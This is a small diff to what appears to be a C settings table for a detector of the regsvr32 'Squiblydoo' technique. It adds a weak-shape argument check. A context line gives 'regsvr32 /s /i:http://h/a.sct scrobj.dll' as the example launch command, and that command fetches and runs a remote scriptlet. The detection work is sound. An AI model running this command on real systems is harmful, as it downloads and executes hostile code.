@@ -129,6 +129,9 @@
 	X(RS_SHAPE, "squibly.regsvr32.shape", \
 	  "true when the arguments of any program look like those of Squiblydoo", \
 	  "true") \
+	X(RS_WEAK_SHAPE, "squibly.regsvr32.weak_shape", \
+	  "true when any program has only arguments that regsvr32 would take: single letters s, u, n, i and libraries", \
+	  "true") \
 	X(LAUNCH_COMMAND, "squibly.launch.command", \
 	  "The text in which a launcher or a stored command names regsvr32 or its arguments, folded as its shell would", \
 	  "regsvr32 /s /i:http://h/a.sct scrobj.dll") \
